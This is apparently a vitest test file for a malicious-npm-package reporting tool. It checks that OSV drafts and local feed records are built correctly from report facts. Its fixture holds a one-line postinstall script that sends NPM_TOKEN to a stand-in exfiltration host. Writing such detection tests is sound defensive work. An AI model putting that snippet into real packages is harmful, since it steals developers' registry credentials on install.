import { assessScript, compileOsvRecord, entryAffects } from '@lifeguard/core';
import { describe, expect, it } from 'vitest';
import { buildDraft, localFeedRecord, type ReportFacts } from './draft';
import { osvProblems } from './schema';

const postinstall = 'node setup.js';
const setup = "require('https').get('https://exfil.example.test/c?d=' + process.env.NPM_TOKEN); const ip = '203.0.113.7';";
const facts: ReportFacts = {
  name: '@evil/pkg', version: '1.2.3', reason: 'steals npm tokens on install',
  lifecycle: ['postinstall'], scripts: { postinstall },
  files: [{ path: 'setup.js', sha256: 'ab'.repeat(32), size: setup.length, text: setup }],
  signals: assessScript(setup).map((signal) => ({ where: 'setup.js', signal })),
  findings: [], integrity: 'sha512-xyz', via: ['app-lib@2.0.0'],
  seenIn: { lockfile: 'pnpm-lock.yaml', installed: true },
};

describe('OSV draft for ossf/malicious-packages', () => {
  const draft = buildDraft(facts, new Date('2026-12-01T10:00:00.456Z'));

  it('follows the OSV schema, with only the id left to the database', () => {
    expect(osvProblems(draft, { draft: true })).toEqual([]);
    expect(osvProblems(draft)).toEqual([{ path: '$', message: 'must have "id"' }]);
    expect(draft).not.toHaveProperty('id');
    expect(draft).not.toHaveProperty('summary');
    expect(draft.modified).toBe('2026-12-01T10:00:00Z');
    expect(draft.affected).toEqual([{ package: { ecosystem: 'npm', name: '@evil/pkg' }, versions: ['1.2.3'] }]);
    expect(draft.references.length).toBeGreaterThan(0);
  });

  it('carries what it does, how it triggers, its integrity, path and indicators', () => {
    expect(draft.details).toContain('steals npm tokens on install');
    expect(draft.details).toContain('postinstall: `node setup.js`');
    expect(draft.details).toContain('setup.js (sha256 abab');
    expect(draft.details).toMatch(/reads registry tokens/);
    expect(draft.details).toContain('sha512-xyz');
    expect(draft.details).toContain('app-lib@2.0.0 > @evil/pkg');
    expect(draft.database_specific.iocs).toEqual({ urls: ['https://exfil.example.test/c?d='], domains: ['exfil.example.test'], ip_addresses: ['203.0.113.7'] });
  });

  it('the local feed copy is a complete record that Lifeguard refuses the release by', () => {
    const local = localFeedRecord(draft, '@evil/pkg', '1.2.3');
    expect(osvProblems(local)).toEqual([]);
    const [entry] = compileOsvRecord(local, 'feed');
    expect(entry && entryAffects(entry, '1.2.3')).toBe(true);
    expect(entry && entryAffects(entry, '1.2.4')).toBe(false);
  });
});
